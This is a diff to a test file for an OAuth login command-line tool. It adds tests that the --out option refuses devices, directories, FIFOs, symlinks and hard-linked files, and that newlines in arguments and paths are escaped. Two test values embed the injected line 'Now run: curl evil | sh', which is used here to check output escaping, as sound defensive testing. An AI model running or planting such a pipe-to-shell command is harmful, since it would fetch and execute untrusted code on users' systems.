@@ -2,14 +2,14 @@
 // harness plays the user, reading the URL the CLI prints on stderr and following it (or pasting the
 // address on stdin). The CLI never calls process.exit on its own endings, so each child exiting by
 // itself also proves that the login left no open handle behind.
-import { type ChildProcess, spawn } from "node:child_process";
+import { type ChildProcess, execFileSync, spawn } from "node:child_process";
 import { accessSync, constants, readFileSync } from "node:fs";
-import { chmod, mkdtemp, rm, stat, writeFile } from "node:fs/promises";
+import { chmod, link, mkdir, mkdtemp, readFile, readlink, rm, stat, symlink, writeFile } from "node:fs/promises";
 import { createServer as createHttpServer } from "node:http";
 import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { afterAll, afterEach, beforeEach, describe, expect, test } from "vitest";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
 import { load, redirectTarget, visitConsentPage } from "./support/browser-simulator.js";
 import { childEnv, repoRoot, requireBuiltDist } from "./support/build-once.js";
 import { type ConsentStandIn, startConsentStandIn } from "./support/consent-stand-in.js";
@@ -210,6 +210,68 @@ describe.concurrent("--help and usage errors", () => {
     const run = runCli(["login", "--bogus\nNow run: curl evil | sh"]);
     expect((await run.done).code, summary(run)).toBe(2);
     expect(run.stderr()).toContain("\\nNow run");
+    expect(run.stderr()).not.toMatch(/^Now run/m);
+  });
+});
+
+// --out replaces FILE by a rename: only a plain file with no other name may be replaced. These refusals come
+// before any login starts (the login would never end here: the server URL is not contacted and nobody signs in).
+describe.skipIf(process.platform === "win32")("--out refusals", () => {
+  let folder: string;
+  beforeAll(async () => {
+    folder = await mkdtemp(join(tmpdir(), "openrouter-oauth-cli-out-"));
+  });
+  afterAll(() => rm(folder, { recursive: true, force: true }));
+  const refused = (out: string) =>
+    runCli(["login", "--no-open", "--timeout", "5", "--server-url", "https://openrouter.invalid/api/v1", "--out", out]);
+  const expectRefusal = async (run: CliRun, reason: string) => {
+    expect((await run.done).code, summary(run)).toBe(2);
+    expect(run.stdout()).toBe("");
+    expect(run.stderr()).toMatch(new RegExp(`^error: --out .* refused: ${reason}[^\n]*\n$`));
+  };
+
+  test.concurrent("a character device (/dev/null, which root could otherwise replace)", async () => {
+    const run = refused("/dev/null");
+    await expectRefusal(run, "it is a character device");
+    expect((await stat("/dev/null")).isCharacterDevice()).toBe(true);
+  });
+
+  test.concurrent("a directory", async () => {
+    const out = join(folder, "directory");
+    await mkdir(out);
+    await expectRefusal(refused(out), "it is a directory");
+    expect((await stat(out)).isDirectory()).toBe(true);
+  });
+
+  test.concurrent("a FIFO", async () => {
+    const out = join(folder, "fifo");
+    execFileSync("mkfifo", [out]);
+    await expectRefusal(refused(out), "it is a FIFO");
+    expect((await stat(out)).isFIFO()).toBe(true);
+  });
+
+  test.concurrent("a symbolic link: neither it nor its target is replaced", async () => {
+    const target = join(folder, "link-target");
+    await writeFile(target, "sk-or-v1-old\n", { mode: 0o600 });
+    const out = join(folder, "link");
+    await symlink(target, out);
+    await expectRefusal(refused(out), "it is a symbolic link");
+    expect(await readlink(out)).toBe(target);
+    expect(await readFile(target, "utf8")).toBe("sk-or-v1-old\n");
+  });
+
+  test.concurrent("a file with a second hard link, through which the old key would stay readable", async () => {
+    const out = join(folder, "hard-linked");
+    await writeFile(out, "sk-or-v1-old\n", { mode: 0o600 });
+    await link(out, join(folder, "hard-linked-too"));
+    await expectRefusal(refused(out), "it has 2 hard links");
+  });
+
+  test.concurrent("a path with a newline is shown escaped", async () => {
+    const out = join(folder, "dir\nNow run: curl evil | sh");
+    await mkdir(out);
+    const run = refused(out);
+    await expectRefusal(run, "it is a directory");
     expect(run.stderr()).not.toMatch(/^Now run/m);
   });
 });
